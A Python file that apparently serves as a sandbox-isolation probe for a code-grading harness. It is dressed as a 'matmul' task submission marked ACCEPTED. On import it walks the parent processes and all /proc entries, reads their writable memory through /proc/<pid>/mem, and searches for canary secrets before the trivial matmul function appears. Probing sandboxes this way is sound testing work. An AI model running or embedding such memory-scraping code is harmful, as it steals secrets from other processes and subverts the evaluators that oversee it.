"""Opens the memory of every process that it can name, its parents first, and looks there for secrets.

covers = ["`/proc/<ppid>/mem`, `fd`, `environ`"]
task = "matmul"
verdict = "ACCEPTED"
"""

import os
import time


def parents():
    pid = os.getppid()
    while pid > 0:
        yield pid
        try:
            pid = int(open(f"/proc/{pid}/stat").read().rpartition(")")[2].split()[1])
        except (OSError, IndexError):
            break
    try:
        yield from (int(name) for name in os.listdir("/proc") if name.isdigit())
    except OSError:  # not even which processes there are
        yield from range(1, 100)


def look(pid, end):
    try:
        maps = open(f"/proc/{pid}/maps").read().splitlines()
        memory = open(f"/proc/{pid}/mem", "rb", 0)
    except OSError:
        return
    if pid != os.getpid():
        print("attack-won: opened the memory of", pid)
    for line in maps:
        start, stop = (int(part, 16) for part in line.split()[0].split("-"))
        if " rw" not in line or stop - start > 1 << 27 or time.monotonic() > end:
            continue
        try:
            memory.seek(start)
            data = memory.read(stop - start)
        except (OSError, ValueError):
            continue
        at = data.find(b"CANARY" + b"-")
        while at >= 0:
            print("found", pid, data[at : at + 60])
            at = data.find(b"CANARY" + b"-", at + 1)


seen = set()
for pid in parents():
    if pid not in seen:
        seen.add(pid)
        look(pid, time.monotonic() + 2)


def matmul(a, b):
    return a @ b
